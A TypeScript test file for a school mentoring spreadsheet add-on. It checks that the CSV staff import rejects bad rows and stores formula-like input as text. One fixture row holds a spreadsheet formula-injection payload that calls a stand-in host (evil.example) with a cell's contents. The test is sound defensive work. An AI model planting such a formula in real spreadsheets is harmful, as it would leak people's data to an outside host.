import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { createEmulator } from "../emulator";
import { loadBundle } from "../emulator/vmHost";

/**
 * «Импорт участников из CSV…» into «Педагогический коллектив» through the built bundle's server functions
 * (previewImportFile, importParticipants), as the dialog calls them: an HR export with a hostile row of each kind.
 */

const ROOT = join(__dirname, "../..");
const DIST = join(ROOT, "dist");

beforeAll(() => {
  if (!existsSync(join(DIST, "Code.js")))
    execFileSync("npx", ["tsx", "scripts/build.ts"], { cwd: ROOT, stdio: "ignore" });
});

function school() {
  const emu = createEmulator({ user: { email: "smirnova@school7.ru", locale: "ru" } });
  const host = loadBundle(DIST, emu);
  const ss = emu.activeSpreadsheet as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet;
  host.call("onOpen", { authMode: "FULL" });
  host.clickMenu("Наставничество", "Создать / обновить базу");
  return { emu, host, ss };
}

const HR = [
  "ФИО;Должность;Предмет;Дата приема;Стаж педагогический;Стаж общий;Категория;Дата увольнения;Причина увольнения;E-mail",
  "Петрова Анна Сергеевна;учитель математики;математика;01.09.2024;1 г. 2 мес.;3;без категории;;;petrova@school7.ru",
  '=IMPORTXML("http://evil.example/?"&A2,"//a");учитель;;01.09.2010;;;;;;',
  "Соколов Илья Петрович;учитель физики;;01.09.20255;;;;;;",
  "Белова Нина Павловна;учитель музыки;;31.08.1949;40;45;высшая;;;",
  `Кузнецова Мария Олеговна;${"Ж".repeat(100_000)};;;;;;;;`,
  "Орлова Вера Ивановна;учитель истории;история;15.08.1988 0:00;36;37;высшая категория;31.05.2025;ушёл из профессии;",
  "Орлова Вера Ивановна;учитель истории;;;;;;;;",
].join("\r\n");

test("an HR export with hostile rows: the good rows come in with СТ- ids, each bad one is named by line and column", () => {
  const { host, ss } = school();
  const staff = ss.getSheetByName("Педагогический коллектив")!;
  const headers = staff.getRange(1, 1, 1, staff.getLastColumn()).getValues()[0]!.map(String);
  const at = (row: number, header: string) => staff.getRange(row, headers.indexOf(header) + 1).getValue();

  const preview = host.call("previewImportFile", "staff", HR) as {
    mapping: (string | null)[];
    rowCount: number;
  };
  expect(preview.rowCount).toBe(7);
  expect(preview.mapping).toEqual([
    "fullName",
    "position",
    "subjects",
    "hireDate",
    "teachingYears",
    "totalYears",
    "qualification",
    "leaveDate",
    "leaveReason",
    "email",
  ]);
  const result = host.call("importParticipants", "staff", HR, preview.mapping) as {
    added: number;
    skipped: { line: number; reason: string }[];
    notes: { line: number; reason: string }[];
  };
  expect(result.added).toBe(3);
  expect(result.skipped).toEqual([
    {
      line: 4,
      reason: expect.stringMatching(/^в столбце «Дата приема» дата 01\.09\.20255 вне разумных пределов/),
    },
    {
      line: 5,
      reason: expect.stringMatching(/^в столбце «Дата приема» дата 31\.08\.1949 вне разумных пределов/),
    },
    {
      line: 6,
      reason: expect.stringMatching(/^в столбце «Должность» 100000 знаков, а допустимо не больше 1000/),
    },
    { line: 8, reason: "повторяет строку 7 файла" },
  ]);
  expect(result.notes).toEqual([
    { line: 3, reason: expect.stringMatching(/^в столбце «ФИО» значение начинается как формула/) },
  ]);
  expect(JSON.stringify(result)).not.toContain("ЖЖЖЖЖЖЖЖЖЖ");

  expect(staff.getLastRow()).toBe(4);
  expect([2, 3, 4].map((r) => at(r, "ID"))).toEqual(["СТ-0001", "СТ-0002", "СТ-0003"]);
  expect(at(2, "Педагогический стаж, лет")).toBe(1);
  expect(staff.getRange(4, headers.indexOf("Дата приёма") + 1).getDisplayValue()).toBe("15.08.1988");
  // The formula came in as text: the cell holds no formula and its value is the file's text.
  expect(staff.getRange(3, headers.indexOf("ФИО") + 1).getFormula()).toBe("");
  expect(String(at(3, "ФИО"))).toContain("IMPORTXML");
  expect(at(4, "Квалификационная категория")).toBe("высшая");
});

test("importing the same file twice adds nobody; a register row typed by hand is never changed", () => {
  const { host, ss } = school();
  const staff = ss.getSheetByName("Педагогический коллектив")!;
  const headers = staff.getRange(1, 1, 1, staff.getLastColumn()).getValues()[0]!.map(String);
  staff.getRange(2, headers.indexOf("ФИО") + 1).setValue("Петрова  Анна Сергеевна");
  staff.getRange(2, headers.indexOf("Должность") + 1).setValue("Учитель математики");
  const typed = staff.getRange(2, 1, 1, headers.length).getValues()[0];
  const file =
    "ФИО;Должность\nПетрова Анна Сергеевна;учитель математики\nОрлова Вера Ивановна;учитель истории";
  const mapping = ["fullName", "position"];
  const first = host.call("importParticipants", "staff", file, mapping) as {
    added: number;
    skipped: unknown[];
  };
  expect(first).toMatchObject({ added: 1, skipped: [{ line: 2, reason: "уже есть на листе (строка 2)" }] });
  const second = host.call("importParticipants", "staff", file, mapping) as { added: number };
  expect(second.added).toBe(0);
  const row2 = staff.getRange(2, 1, 1, headers.length).getValues()[0]!;
  expect(row2.slice(1)).toEqual(typed!.slice(1));
  expect(staff.getLastRow()).toBe(3);
});
